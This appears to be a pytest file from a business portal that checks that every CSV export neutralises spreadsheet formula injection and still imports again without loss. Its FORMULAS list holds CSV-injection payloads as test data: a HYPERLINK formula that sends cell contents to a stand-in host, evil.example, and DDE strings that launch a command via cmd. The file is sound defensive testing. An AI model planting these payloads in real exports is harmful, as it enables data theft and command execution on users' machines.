"""CSV injection: every CSV file the portal writes (open data, the company export, the plugins'
dataset exports, participant lists, statistics) shows a formula as text in a spreadsheet, and
an export still imports again without loss."""

from __future__ import annotations

import csv
import io
import itertools
import re
from pathlib import Path
from typing import Any

import pytest
from flask import Flask

from core import csv_reader, csv_writer, neutralise_cell, restore_cell
from core.model import Company, Status
from tests.admin.admin_support import KITA_COLUMNS, KITAS, OFFER_COLUMNS, OFFERS
from tests.plugins.transit.transit_feeds import generate_feed, write_feed
from tests.security.conftest import OPERATOR_TOKEN
from webapp.cli import cli

ROOT = Path(__file__).resolve().parents[2]

#: Formulas a spreadsheet would run (OWASP CSV Injection), as a company or visitor types them.
FORMULAS = (
    '=HYPERLINK("https://evil.example/?d="&A1,"Details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
#: What a spreadsheet takes for a formula: these characters at the start of a cell.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def dangerous(cell: str) -> bool:
    """Whether a spreadsheet opening the file would evaluate ``cell``."""
    return cell.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(cell)


def cells(text: str, delimiter: str = ",") -> list[str]:
    """Every cell of a CSV text, read as a spreadsheet reads it (no restoring)."""
    return [
        c
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=delimiter)
        for c in row
    ]


def assert_safe(text: str, payloads: tuple[str, ...] = FORMULAS, delimiter: str = ",") -> None:
    found = cells(text, delimiter)
    assert [c for c in found if dangerous(c)] == []
    for payload in payloads:
        assert "'" + payload in found, payload


# --- the writer and reader themselves ----------------------------------------------------


def test_every_short_text_survives_neutralise_and_restore() -> None:
    # brute force over every text of up to 4 characters from the characters that matter
    alphabet = ["'", "=", "+", "-", "@", "\t", "\r", "a", "1", ".", " "]
    for length in range(5):
        for chars in itertools.product(alphabet, repeat=length):
            text = "".join(chars)
            written = neutralise_cell(text)
            assert not dangerous(written), text
            assert restore_cell(written) == text, text
            assert written in (text, "'" + text)


def test_numbers_stay_numbers() -> None:
    for number in ("-7.5", "+49", "-0", "1e-5", "-.5", "51.6141"):
        assert neutralise_cell(number) == number
    assert neutralise_cell(None) == "" and neutralise_cell(-3) == "-3"


def test_a_written_file_reads_back_the_same_rows() -> None:
    rows = [list(FORMULAS), ["'=quoted", "''@twice", "plain", "-1", "'just a quote"]]
    out = io.StringIO()
    csv_writer(out, delimiter=";").writerows(rows)
    assert_safe(out.getvalue(), delimiter=";")
    assert list(csv_reader(io.StringIO(out.getvalue()), delimiter=";")) == rows


def test_no_module_writes_csv_without_the_guard() -> None:
    # every CSV file goes through core.csv_writer: a new export cannot forget the guard
    offenders = []
    for folder in ("core", "webapp", "plugins"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            text = path.read_text(encoding="utf-8")
            if re.search(r"csv\.(writer|DictWriter)\(", text) and path.name != "csvfiles.py":
                offenders.append(str(path.relative_to(ROOT)))
    assert offenders == []


# --- companies: open data, the command line export, export -> import ----------------------


@pytest.fixture(scope="module")
def formula_companies(app: Flask) -> list[int]:
    """Published companies whose texts are formulas (as the questionnaire would store them)."""
    platform = app.extensions["regiokarte"]
    ids = []
    for n, payload in enumerate(FORMULAS):
        company = Company.from_dict(
            {
                "name": payload if n % 2 == 0 else f"Firma {n}",
                "description": payload,
                "street": payload,
                "town": "Marl",
                "postcode": "45768",
                "industry": "C",
                "employees": 12,
                "status": Status.PUBLISHED.value,
                "contact": {"name": payload, "email": "", "phone": ""},
            }
        )
        ids.append(platform.save_company(company).id)
    platform.engine.refresh(force=True)
    return ids


def test_open_data_csv_shows_formulas_as_text(app: Flask, formula_companies: list[int]) -> None:
    response = app.test_client().get("/api/v1/opendata/companies.csv")
    assert response.status_code == 200
    assert_safe(response.get_data(as_text=True))


def test_command_line_export_is_safe_and_imports_again_without_loss(
    app: Flask, formula_companies: list[int], tmp_path: Path, new_database: Any
) -> None:
    from tests.security.conftest import build_app

    path = tmp_path / "companies.csv"
    result = app.test_cli_runner().invoke(cli, ["export", "companies", "-o", str(path)])
    assert result.exit_code == 0, result.output
    assert_safe(path.read_bytes().decode("utf-8"))

    other = build_app(new_database("copy"))
    platform = other.extensions["regiokarte"]
    try:
        result = other.test_cli_runner().invoke(cli, ["import", "companies", str(path)])
        assert result.exit_code == 0, result.output
        source = app.extensions["regiokarte"]
        with source.session() as s1, platform.session() as s2:
            from core.persistence import companies as repo

            before = [
                c.to_dict(with_contact=True) for c in repo.list_companies(s1, with_contact=True)
            ]
            after = [
                c.to_dict(with_contact=True) for c in repo.list_companies(s2, with_contact=True)
            ]
        assert after == before
        names = {c["name"] for c in after}
        assert FORMULAS[0] in names and FORMULAS[2] in names
    finally:
        platform.db.dispose()


# --- the plugins' dataset exports -------------------------------------------------------


def _csv(rows: list[list[str]], delimiter: str = ",") -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\n").writerows(rows)
    return out.getvalue().encode("utf-8")


def _seed_files(tmp_path: Path) -> dict[str, tuple[Path, str, tuple[str, ...]]]:
    """dataset id -> (a file with formulas in its text fields, its format, the formulas)."""
    kita, other = list(KITAS[0]), list(KITAS[1])
    kita[1:3] = FORMULAS[0], FORMULAS[1]
    other[1], other[3] = FORMULAS[3], FORMULAS[2]
    kitas = _csv([KITA_COLUMNS, kita, other])
    # the admin tests' offers, with formulas in the title and the street
    offer = list(OFFERS[0])
    offer[OFFER_COLUMNS.index("title")] = FORMULAS[0]
    offer[OFFER_COLUMNS.index("street")] = FORMULAS[3]
    offers = _csv([OFFER_COLUMNS, offer])
    courses = (ROOT / "plugins/training/data/samples/courses.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO(courses)))
    title = rows[0].index("title")
    rows[1][title] = FORMULAS[0]
    rows[2][title] = FORMULAS[3]
    # the sample's events in a year still to come, so they are listed and open for registration
    events = (ROOT / "tests/plugins/events/data/events.csv").read_text(encoding="utf-8")
    events = events.replace(";2026-", ";2099-")
    events = (
        events.replace(";ihk-nord-westfalen", ";")
        .replace("Ausbildungsbörse Marl", FORMULAS[0])
        .replace("Jobmesse Bottrop", FORMULAS[3])
    )
    feed = generate_feed(3)
    feed["stops.txt"][1][1] = FORMULAS[0]
    feed["stops.txt"][2][1] = FORMULAS[3]
    files = {
        "childcare.kitas": ("kitas.csv", kitas, "csv"),
        "housing.offers": ("angebote.csv", offers, "csv"),
        "training.courses": ("courses.csv", _csv(rows), "csv"),
        "events.events": ("events.csv", events.encode("utf-8"), "csv"),
    }
    out = {}
    for dataset, (name, data, fmt) in files.items():
        path = tmp_path / name
        path.write_bytes(data)
        out[dataset] = (path, fmt, (FORMULAS[0], FORMULAS[3]))
    out["transit.stops"] = (
        write_feed(tmp_path / "feed.zip", feed),
        "gtfs",
        (FORMULAS[0], FORMULAS[3]),
    )
    return out


def test_every_dataset_csv_export_is_safe_and_imports_again(app: Flask, tmp_path: Path) -> None:
    platform = app.extensions["regiokarte"]
    seeds = _seed_files(tmp_path)
    with_csv = {i for i, d in platform.datasets().items() if "csv" in d.export_formats}
    # every dataset that exports CSV is covered here
    assert with_csv <= set(seeds), with_csv - set(seeds)
    assert with_csv
    for dataset_id in sorted(with_csv):
        dataset = platform.dataset(dataset_id)
        path, fmt, payloads = seeds[dataset_id]
        with platform.session(write=True) as session:
            dataset.import_file(session, path, fmt)
        with platform.session() as session:
            exported = dataset.export(session, "csv").content.decode("utf-8")
        assert_safe(exported, payloads)
        if "csv" not in dataset.import_formats:
            continue
        # the export imports again as it is (under the seed's name, which some datasets keep
        # as the source): nothing changes, the export stays the same
        again = path
        again.write_bytes(exported.encode("utf-8"))
        with platform.session(write=True) as session:
            report = dataset.import_file(session, again, "csv")
        assert report.created == 0 and report.rejected == 0, (dataset_id, report)
        with platform.session() as session:
            assert dataset.export(session, "csv").content.decode("utf-8") == exported, dataset_id


# --- participant lists --------------------------------------------------------------------


def test_participant_lists_are_safe(app: Flask, tmp_path: Path) -> None:
    platform = app.extensions["regiokarte"]
    client = app.test_client()
    operator = {"Authorization": f"Bearer {OPERATOR_TOKEN}"}
    events = client.get("/api/v1/events?per_page=100").get_json()["items"]
    event = next((e for e in events if e.get("registration") == "portal"), None)
    if event is None:
        path = tmp_path / "events.csv"
        path.write_bytes(_seed_files(tmp_path)["events.events"][0].read_bytes())
        with platform.session(write=True) as session:
            platform.dataset("events.events").import_file(session, path, "csv")
        events = client.get("/api/v1/events?per_page=100").get_json()["items"]
        event = next(e for e in events if e.get("registration") == "portal")
    for n, payload in enumerate(FORMULAS[:4]):
        answer = client.post(
            f"/api/v1/events/{event['id']}/registrations",
            json={"name": payload, "email": f"p{n}@example.org", "consent": True},
        )
        assert answer.status_code == 201, answer.get_json()
    response = client.get(f"/api/v1/events/{event['id']}/participants?format=csv", headers=operator)
    assert response.status_code == 200
    assert_safe(response.get_data(as_text=True), FORMULAS[:4], delimiter=";")
    result = app.test_cli_runner().invoke(cli, ["events", "participants", str(event["id"])])
    assert result.exit_code == 0, result.output
    assert_safe(result.output, FORMULAS[:4], delimiter=";")
